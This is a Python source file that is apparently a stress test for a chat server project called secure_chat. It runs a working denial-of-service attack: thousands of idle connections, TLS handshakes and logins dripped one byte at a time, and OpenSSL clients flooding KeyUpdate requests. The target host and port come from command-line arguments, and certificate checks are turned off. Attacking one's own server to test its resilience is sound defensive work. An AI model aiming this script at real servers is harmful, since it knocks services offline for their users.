"""People who want to keep others out: silent connections, dripped handshakes, dripped logins, floods of KeyUpdate.

Run as a process of its own against a server on loopback; it stops by itself after the seconds that it was given.
"""

import contextlib
import selectors
import shutil
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Iterator
from typing import Final

from secure_chat.certificates.contexts import ALPN

SILENT: Final = 2000
DRIPPED_HANDSHAKES: Final = 100
DRIPPED_LOGINS: Final = 100
KEY_UPDATE_FLOODS: Final = 2
DRIP_SECONDS: Final = 0.25  # between two bytes of one connection
RECONNECT_EACH_TURN: Final = 50  # connections the server has dropped that come back in one turn


class Drip:
    """A connection that says its bytes one by one."""

    def __init__(self, address: tuple[str, int], words: bytes, tls: ssl.SSLContext | None = None) -> None:
        self._words = words
        self._said = 0
        raw = socket.create_connection(address, timeout=10)
        self.socket: socket.socket = raw if tls is None else tls.wrap_socket(raw)

    def say_one_byte(self) -> None:
        """Raises `OSError` when the server has had enough."""
        if self._said < len(self._words):
            self.socket.send(self._words[self._said : self._said + 1])
            self._said += 1


def client_hello() -> bytes:
    """A real one."""
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        hostile_context().wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()


def hostile_context() -> ssl.SSLContext:
    """An attacker does not care who the server is. No program of the product makes such a context."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([ALPN])
    return context


@contextlib.contextmanager
def key_update_floods(address: tuple[str, int]) -> Iterator[None]:
    """OpenSSL's own client, told to update its keys without end."""
    openssl, yes = shutil.which("openssl"), shutil.which("yes")
    processes: list[subprocess.Popen[bytes]] = []
    if openssl and yes:
        for _ in range(KEY_UPDATE_FLOODS):
            source = subprocess.Popen([yes, "K"], stdout=subprocess.PIPE)
            command = [openssl, "s_client", "-connect", f"{address[0]}:{address[1]}", "-alpn", ALPN]
            flood = subprocess.Popen(command, stdin=source.stdout, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            processes += [source, flood]
    try:
        yield
    finally:
        for process in processes:
            process.kill()
            process.wait()
            if process.stdout is not None:
                process.stdout.close()


def attack(address: tuple[str, int], seconds: float) -> None:
    """Hold everything up for so long; what the server drops comes back."""
    hello, context = client_hello(), hostile_context()
    login = (3000).to_bytes(4, "big") + bytes(3000)
    end = time.monotonic() + seconds
    silent: set[socket.socket] = set()
    drips: list[Drip] = []
    with key_update_floods(address), selectors.DefaultSelector() as selector:
        while time.monotonic() < end:
            turn_ends = time.monotonic() + DRIP_SECONDS
            for _ in range(min(SILENT - len(silent), SILENT // 4)):
                with contextlib.suppress(OSError):
                    fresh = socket.create_connection(address, timeout=10)
                    fresh.setblocking(False)
                    silent.add(fresh)
                    selector.register(fresh, selectors.EVENT_READ)
            wanted = DRIPPED_HANDSHAKES + DRIPPED_LOGINS - len(drips)
            for index in range(min(wanted, RECONNECT_EACH_TURN)):
                with contextlib.suppress(OSError):
                    drips.append(Drip(address, login, context) if index % 2 else Drip(address, hello))
            for drip in tuple(drips):
                try:
                    drip.say_one_byte()
                except OSError:
                    drip.socket.close()
                    drips.remove(drip)
            for key, _ in selector.select(max(0.0, turn_ends - time.monotonic())):
                dropped = key.fileobj
                assert isinstance(dropped, socket.socket)
                selector.unregister(dropped)
                silent.discard(dropped)
                dropped.close()
    for each in (*silent, *(drip.socket for drip in drips)):
        each.close()


if __name__ == "__main__":
    attack((sys.argv[1], int(sys.argv[2])), float(sys.argv[3]))
